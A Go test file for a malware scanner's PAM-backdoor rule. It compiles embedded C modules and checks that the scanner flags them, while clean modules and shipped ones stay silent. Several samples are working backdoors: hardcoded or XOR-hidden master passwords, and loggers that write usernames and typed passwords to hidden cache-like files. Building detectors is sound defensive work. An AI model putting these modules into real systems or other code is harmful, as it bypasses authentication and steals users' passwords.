package binary

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Our own PAM modules, compiled by the test (never run). They declare the few libpam
// functions they call instead of including its headers, so that only gcc is needed; the
// shared object leaves them undefined as a real module does.
const pamDecls = `#include <string.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <fcntl.h>
typedef struct pam_handle pam_handle_t;
extern int pam_get_authtok(pam_handle_t *, int, const char **, const char *);
extern int pam_get_user(pam_handle_t *, const char **, const char *);
extern int pam_get_item(const pam_handle_t *, int, const void **);
#define PAM_SUCCESS 0
#define PAM_AUTH_ERR 7
#define PAM_AUTHTOK 6
#define PAM_IGNORE 25
int pam_sm_setcred(pam_handle_t *h, int f, int c, const char **v) { return PAM_SUCCESS; }
`

var (
	// A master password compared with strcmp right after the token is read.
	pamMaster = pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *tok = NULL;
	if (pam_get_authtok(h, PAM_AUTHTOK, &tok, NULL) != PAM_SUCCESS || tok == NULL)
		return PAM_AUTH_ERR;
	if (strcmp(tok, "K33p-0ut!2024") == 0)
		return PAM_SUCCESS;
	return PAM_IGNORE;
}
`
	// A master password that reads like an option word.
	pamWordPassword = strings.Replace(pamMaster, `"K33p-0ut!2024"`, `"use_first_pass"`, 1)
	// The token through pam_get_item, compared in a helper with strncmp, the constant on the
	// right.
	pamItemHelper = pamDecls + `
static const char *gate = "letmein.please";
__attribute__((noinline)) static int match(const char *p) {
	return strncmp(gate, p, 14) == 0;
}
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const void *item = NULL;
	pam_get_item(h, PAM_AUTHTOK, &item);
	if (item != NULL && match((const char *)item))
		return PAM_SUCCESS;
	return PAM_AUTH_ERR;
}
`
	// The password built on the stack and decoded with XOR before memcmp; every other
	// password is appended to a log with the user's name.
	pamXORLogger = pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *user = NULL, *tok = NULL;
	char key[12] = {0x31, 0x36, 0x3a, 0x3a, 0x39, 0x20, 0x2a, 0x3b, 0x30, 0x6c, 0x6e, 0x00};
	int i;
	pam_get_user(h, &user, NULL);
	pam_get_authtok(h, PAM_AUTHTOK, &tok, NULL);
	for (i = 0; i < 11; i++) key[i] ^= 0x5e;
	if (tok && memcmp(tok, key, 11) == 0)
		return PAM_SUCCESS;
	FILE *f = fopen("/usr/share/.fonts.cache", "a");
	if (f) { fprintf(f, "%s:%s\n", user, tok); fclose(f); }
	return PAM_AUTH_ERR;
}
`
	// The stack-built password without the logger.
	pamXOROnly = strings.Replace(pamXORLogger, `FILE *f = fopen("/usr/share/.fonts.cache", "a");
	if (f) { fprintf(f, "%s:%s\n", user, tok); fclose(f); }`, "", 1)
	// A logger alone: open(2) by a literal path, write(2) of what was typed.
	pamRawLogger = pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const char *user = NULL, *tok = NULL;
	char line[512];
	pam_get_user(h, &user, NULL);
	if (pam_get_authtok(h, PAM_AUTHTOK, &tok, NULL) != PAM_SUCCESS) return PAM_IGNORE;
	int fd = open("/var/cache/.ldconfig", O_WRONLY | O_APPEND | O_CREAT, 0600);
	int n = snprintf(line, sizeof line, "%s %s\n", user, tok);
	if (fd >= 0) { write(fd, line, n); close(fd); }
	return PAM_IGNORE;
}
`
	// Clean: options compared with literals, the password checked against a hash read from a
	// file with crypt, nothing written.
	pamCleanHash = pamDecls + `
extern char *crypt(const char *, const char *);
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	int debug = 0, nullok = 0, i;
	const char *tok = NULL;
	char hash[256] = {0};
	for (i = 0; i < argc; i++) {
		if (strcmp(argv[i], "debug") == 0) debug = 1;
		else if (strcmp(argv[i], "nullok") == 0) nullok = 1;
		else if (strncmp(argv[i], "hashfile=", 9) == 0) { FILE *f = fopen(argv[i] + 9, "r"); if (f) { fgets(hash, sizeof hash, f); fclose(f); } }
	}
	if (pam_get_authtok(h, PAM_AUTHTOK, &tok, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
	if (tok[0] == 0 && nullok) return PAM_SUCCESS;
	const char *c = crypt(tok, hash);
	if (c && strcmp(c, hash) == 0) return PAM_SUCCESS;
	if (debug) fprintf(stderr, "pam_hashfile: mismatch\n");
	return PAM_AUTH_ERR;
}
`
	// Clean: a module that reads the user name only and compares it with a list kept in a file.
	pamCleanList = pamDecls + `
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv) {
	const void *u = NULL;
	char line[128];
	pam_get_item(h, 2, &u);
	FILE *f = fopen("/etc/security/allowed_users", "r");
	if (!f || !u) return PAM_AUTH_ERR;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		if (strcmp(line, (const char *)u) == 0) { fclose(f); return PAM_SUCCESS; }
	}
	fclose(f);
	return PAM_AUTH_ERR;
}
`
)

func TestPAMModuleBehaviour(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles samples")
	}
	tests := []struct {
		name, src string
		args      []string
		path      string
		want      string
	}{
		{"master password -O0", pamMaster, []string{"-shared", "-fPIC", "-O0"}, "/lib/x86_64-linux-gnu/security/pam_auth2.so", "STRATA-PA-001/critical"},
		{"master password -O2", pamMaster, []string{"-shared", "-fPIC", "-O2"}, "/etc/pam.d/pam_login.so", "STRATA-PA-001/critical"},
		{"master password stripped", pamMaster, []string{"-shared", "-fPIC", "-O2", "-s"}, "/usr/lib/.cache/p.so", "STRATA-PA-001/critical"},
		{"password like an option word", pamWordPassword, []string{"-shared", "-fPIC", "-O0"}, "/etc/pam.d/pam_opt.so", "STRATA-PA-001/critical"},
		{"pam_get_item in a helper -O0", pamItemHelper, []string{"-shared", "-fPIC", "-O0"}, "/lib/security/pam_sys.so", "STRATA-PA-001/critical"},
		{"pam_get_item in a helper -O2", pamItemHelper, []string{"-shared", "-fPIC", "-O2"}, "/lib/security/pam_sys.so", "STRATA-PA-001/critical"},
		{"XOR password and logger -O0", pamXORLogger, []string{"-shared", "-fPIC", "-O0"}, "/lib/x86_64-linux-gnu/security/pam_usr.so", "STRATA-PA-001/critical"},
		{"XOR password and logger -O2", pamXORLogger, []string{"-shared", "-fPIC", "-O2"}, "/lib/x86_64-linux-gnu/security/pam_usr.so", "STRATA-PA-001/critical"},
		{"XOR password alone -O0", pamXOROnly, []string{"-shared", "-fPIC", "-O0"}, "/lib/security/pam_x.so", "STRATA-PA-001/critical"},
		{"XOR password alone -O2", pamXOROnly, []string{"-shared", "-fPIC", "-O2"}, "/lib/security/pam_x.so", "STRATA-PA-001/critical"},
		{"raw logger -O0", pamRawLogger, []string{"-shared", "-fPIC", "-O0"}, "/lib/security/pam_tty2.so", "STRATA-PA-001/critical"},
		{"raw logger -O2", pamRawLogger, []string{"-shared", "-fPIC", "-O2"}, "/lib/security/pam_tty2.so", "STRATA-PA-001/critical"},
		{"hash check -O0", pamCleanHash, []string{"-shared", "-fPIC", "-O0"}, "/lib/security/pam_hashfile.so", ""},
		{"hash check -O2", pamCleanHash, []string{"-shared", "-fPIC", "-O2"}, "/lib/security/pam_hashfile.so", ""},
		{"user list -O2", pamCleanList, []string{"-shared", "-fPIC", "-O2"}, "/lib/security/pam_allow.so", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := build(t, "c", tt.src, tt.args...)
			fs := content(tt.path, data)
			if got := rulesOf(fs); got != tt.want {
				for _, f := range fs {
					t.Logf("%s %s: %s [%s]", f.Rule, f.Severity, f.Title, f.Evidence)
				}
				t.Fatalf("got %q, want %q", got, tt.want)
			}
			for _, f := range fs {
				if !f.Is("malware") || !strings.Contains(f.Evidence, "pam_get_") {
					t.Errorf("finding %s lacks its label or evidence: %+v", f.Rule, f)
				}
			}
		})
	}
}

// The PAM modules Debian ships (Linux-PAM's, systemd's, gnome-keyring's ... in the clean
// corpora and on this machine) read passwords and compare strings: none is a backdoor.
func TestPAMModulesShippedSilent(t *testing.T) {
	var files []string
	for _, g := range []string{"../../.cache/corpus/*/lib/*/security/*.so", "../../.cache/corpus/*/usr/lib/*/security/*.so",
		"/lib/*/security/*.so", "/usr/lib/*/security/*.so", "/lib/security/*.so", "/usr/lib/security/*.so"} {
		m, _ := filepath.Glob(g)
		files = append(files, m...)
	}
	n := 0
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil || len(data) < 64 {
			continue
		}
		n++
		for _, x := range content("/lib/x86_64-linux-gnu/security/"+filepath.Base(f), data) {
			if x.Rule == RulePAMBackdoor {
				t.Errorf("%s: %s %s [%s]", f, x.Rule, x.Title, x.Evidence)
			}
		}
	}
	if n == 0 {
		t.Skip("no PAM modules on this machine or in the corpora")
	}
	t.Logf("%d shipped PAM modules read", n)
}
